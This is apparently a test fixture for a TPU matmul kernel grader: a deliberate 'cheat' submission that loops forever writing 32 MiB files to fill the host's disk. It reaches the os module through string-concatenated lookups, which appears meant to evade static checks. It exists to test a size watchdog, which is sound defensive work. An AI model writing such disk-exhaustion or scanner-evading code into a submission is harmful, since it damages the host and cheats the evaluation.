"""Cheat (8p_gemm): fills its private directory (the only place it may write) with 32 MiB
files until it is stopped, to exhaust the host's disk. The parent's watchdog on the
directory's size kills it."""
import operator
import typing

from jax.experimental.pallas.ops.tpu import matmul as pallas_matmul

TARGET = "tpu"


def kernel(a, b):
    get = operator.attrgetter
    the_os = get("mod" + "ules")(get("sy" + "s")(typing))["o" + "s"]
    chunk = b"\x5a" * (1 << 20)
    i = 0
    while True:
        fd = the_os.open(f"fill{i}", the_os.O_WRONLY | the_os.O_CREAT, 0o600)
        for _ in range(32):
            the_os.write(fd, chunk)
        the_os.close(fd)
        i += 1
    return pallas_matmul.matmul(a, b, block_shape=(256, 512), block_k=512)
